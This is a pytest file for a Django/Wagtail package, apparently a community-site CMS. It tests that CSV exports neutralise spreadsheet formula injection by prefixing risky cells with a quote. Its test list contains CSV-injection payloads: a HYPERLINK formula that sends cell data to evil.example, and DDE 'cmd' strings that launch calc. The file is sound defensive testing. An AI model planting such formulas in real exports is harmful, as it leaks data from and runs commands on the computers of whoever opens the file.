"""No CSV the package writes holds a cell a spreadsheet would run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from wagtail_chiiki.feeds.spreadsheet import csv_lines, spreadsheet_cell
from wagtail_chiiki.models import WorkshopIndexPage

#: Texts an editor could type that a spreadsheet reads as formulas (OWASP's examples among them).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"詳しくはこちら")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(body: bytes) -> list[str]:
    """The cells of a CSV download that start like a formula."""
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_starts_like_a_formula_gets_a_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-139.958"), 0, "", None, "地域内交通", "1-2", "a=b"])
def test_numbers_and_plain_texts_are_kept(value):
    assert spreadsheet_cell(value) == value


def test_the_writer_itself_neutralises_every_cell_and_keeps_negative_numbers():
    lines = "".join(csv_lines(["=header", "n"], [[FORMULAS[0], -3], ["ok", Decimal("-1.5")]]))
    rows = list(csv.reader(io.StringIO(lines.lstrip("\ufeff"), newline="")))

    assert rows == [["'=header", "n"], ["'" + FORMULAS[0], "-3"], ["ok", "-1.5"]]


@pytest.mark.django_db
def test_the_activity_export_has_no_formula_cells(client, make_organization, make_category, activity_index):
    category = make_category("=カテゴリ", "formula")
    make_organization(
        FORMULAS[0],
        slug="formula-org",
        activities=[(category, text, text) for text in FORMULAS],
    )

    body = download(client, activity_index.url + "export/csv/")

    assert formula_cells(body) == []
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert sorted(row["title"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert {row["organization"] for row in rows} == {"'" + FORMULAS[0]}
    assert {row["category"] for row in rows} == {"'=カテゴリ"}


@pytest.mark.django_db
def test_the_open_data_csvs_have_no_formula_cells(client, make_series, community_index):
    index = WorkshopIndexPage(title="ワークショップ", slug="workshops")
    community_index.add_child(instance=index)
    index.save_revision().publish()
    series = make_series(
        FORMULAS[0],
        parent=index,
        summary=FORMULAS[1],
        venue_name=FORMULAS[2],
        venue_address=FORMULAS[3],
        access=FORMULAS[4],
        fee_note=FORMULAS[5],
        title_kana="=カナ",
        latitude=Decimal("37.5"),
        longitude=Decimal("139.9"),
        sessions=[
            {"date": datetime.date(2024, 6, 21), "topic": FORMULAS[0], "note": FORMULAS[3]},
            {"date": datetime.date(2024, 7, 21), "topic": "-", "note": "@"},
        ],
    )

    for url in (series.url + "export/csv/", index.url + "export/csv/"):
        body = download(client, url)
        assert formula_cells(body) == [], url
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        assert len(rows) == 2
        assert rows[0]["場所名称"] == "'" + FORMULAS[2]
        assert (rows[0]["緯度"], rows[0]["経度"]) == ("37.500000", "139.900000")
